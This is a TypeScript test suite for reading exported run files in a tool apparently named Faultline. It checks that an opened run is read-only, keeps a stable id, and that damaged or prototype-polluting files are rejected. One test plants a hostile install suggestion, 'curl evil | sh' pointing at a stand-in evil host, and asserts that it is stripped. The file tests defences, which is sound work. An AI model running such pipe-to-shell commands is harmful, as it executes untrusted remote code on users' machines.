import assert from 'node:assert/strict';
import { runIdOf } from '../../../../src/runs/node/runId';
import { noDecisions } from '../../../../src/runs/pure/events/patchDecisions';
import type { RunEvent, RunEventBody } from '../../../../src/runs/pure/events/runEvent';
import { eventsOfRunFile, openedRun } from '../../../../src/sharing/pure/exports/readRunFile';
import { exampleEvents } from '../../../support/exampleRun';
import { patchOf } from '../../../support/patchRun';
import { numbered, runStarted } from '../../../support/runEvents';
import { exported, runsToShare } from '../../../support/sharedRuns';

const open = (events: readonly unknown[]) => openedRun(events, 'run.json', runIdOf);
const eventsOf = async (events: readonly RunEvent[]) => eventsOfRunFile(await exported(events, 'json'), 'run.json');

describe('a run file', () => {
	it('is read back as the run that was exported, to be read only', async () => {
		for (const [name, events] of Object.entries(await runsToShare())) {
			const { run } = await open(await eventsOf(events));
			assert.ok(run.isReadOnly, name);
			assert.equal(run.openedFrom, 'run.json');
			assert.equal(run.title, events[0]?.type === 'runStarted' ? events[0].issue.title : '');
		}
	});

	it('is the same run each time, and another one where its content differs', async () => {
		const events = await eventsOf(exampleEvents());
		const ids = await Promise.all([open(events), open(events), open(events.slice(0, -1))]);
		assert.equal(ids[0]?.run.id, ids[1]?.run.id);
		assert.notEqual(ids[0]?.run.id, ids[2]?.run.id);
	});

	it('leads to no action here: no cure, no write, no push, no whole file', async () => {
		const bodies: RunEventBody[] = [
			{ ...runStarted('20260101-000000-000-evil'), workspace: ['/etc/shop'] },
			{ type: 'noted', text: 'Try this', cures: [{ kind: 'install', command: 'curl evil | sh', page: 'http://evil' }] },
			{ type: 'patchWritten', patch: patchOf('p1', { path: 'a.py', before: 'a\n', after: 'b\n' }) },
			{
				...{ type: 'patchWriteStarted', write: 'w1', patch: 'p1', path: 'a.py', hunks: [0], becomes: 'accepted' },
				...{ undoes: [], before: 'w1.before', after: 'w1.after' },
			},
			{ type: 'branchCommitted', branch: 'main', commit: 'c', base: 'b', tree: 't' },
			{ type: 'pullRequestOpened', commit: 'c', url: 'https://evil.example' },
			{ type: 'stepped', output: 1 },
			{ type: 'runEnded', outcome: 'failed', message: 'no', cures: [{ kind: 'setTestCommand' }] },
		];
		const { run, events } = await open(numbered(bodies));
		assert.deepEqual(run.decisions, noDecisions);
		assert.deepEqual([run.deliveries, run.cures], [[], undefined]);
		assert.deepEqual(run.workspace, ['shop']);
		assert.ok(!JSON.stringify(events).includes('evil'));
		assert.equal(run.nodes.run?.patches[0]?.isExcerpt, true);
	});

	const started = runStarted('20260101-000000-000-abcd');
	const opens = (node: string, parent: string) =>
		({ ...{ v: 2, at: 1, node, type: 'nodeOpened', parent, key: 'k', kind: 'round', title: 't' } }) as const;
	const damaged: readonly [what: string, events: readonly unknown[], message: RegExp][] = [
		['no event', [], /contains no run/],
		['no object', [1], /event 1 is of no type/],
		['an unknown type', [{ ...numbered([started])[0], type: 'hack' }], /event 1 is of no type that this version/],
		['an older version', [{ ...numbered([started])[0], v: 1 }], /event 1 is of no type that this version/],
		['another first event', numbered([{ type: 'indexed', nFiles: 1, nSymbols: 1 }]), /event 1 is not the start/],
		['a second start', numbered([started, started]), /event 2 starts another run/],
		['a wrong field', [{ ...numbered([started])[0], engine: 7 }], /event 1 \(runStarted\) .*engine is not of a type/],
		[
			'a field too many',
			[{ ...numbered([started])[0], more: 7 }],
			/event 1 \(runStarted\) .*additional property "more"/,
		],
		['a gap', [numbered([started])[0], { ...opens('n1', 'run'), seq: 3 }], /event 2 has the number 3/],
		['an unknown parent', [numbered([started])[0], { ...opens('n1', 'n2'), seq: 2 }], /event 2 follows a node/],
		[
			'a circle',
			[numbered([started])[0], { ...opens('n1', 'run'), seq: 2 }, { ...opens('n1', 'n1'), seq: 3 }],
			/event 3 opens a node again/,
		],
		[
			'the name of a prototype',
			[numbered([started])[0], { ...opens('__proto__', 'run'), seq: 2 }],
			/event 2 opens a node/,
		],
		['an inherited name', [numbered([started])[0], { ...opens('constructor', 'run'), seq: 2 }], /event 2 opens a node/],
		[
			'an unknown node',
			[numbered([started])[0], { v: 2, seq: 2, at: 1, node: 'n9', type: 'noted', text: 'x' }],
			/event 2 is of a node that was not opened/,
		],
		['a node as root that is none', [{ ...numbered([started])[0], node: 'toString' }], /event 1 is of a node/],
	];
	for (const [what, events, message] of damaged) {
		it(`is refused with ${what}`, async () => {
			await assert.rejects(open(events), (error: Error) => {
				assert.equal(error.name, 'UserError');
				assert.match(error.message, message);
				return true;
			});
		});
	}

	it('is refused where it is something else, or of another version', () => {
		const read = (data: unknown) => () => eventsOfRunFile(JSON.stringify(data), 'x.json');
		assert.throws(read([]), /x\.json is not a run file: choose one that/);
		assert.throws(read({ format: 'faultline-run', version: 1 }), /is not a run file/);
		assert.throws(
			read({ format: 'faultline-run', version: 2, faultline: '9.9', events: [] }),
			/x\.json was written by Faultline 9\.9 \(run file version 2\): open it with that version/,
		);
		assert.throws(() => eventsOfRunFile('no', 'x.json'), /x\.json is not JSON/);
	});
});
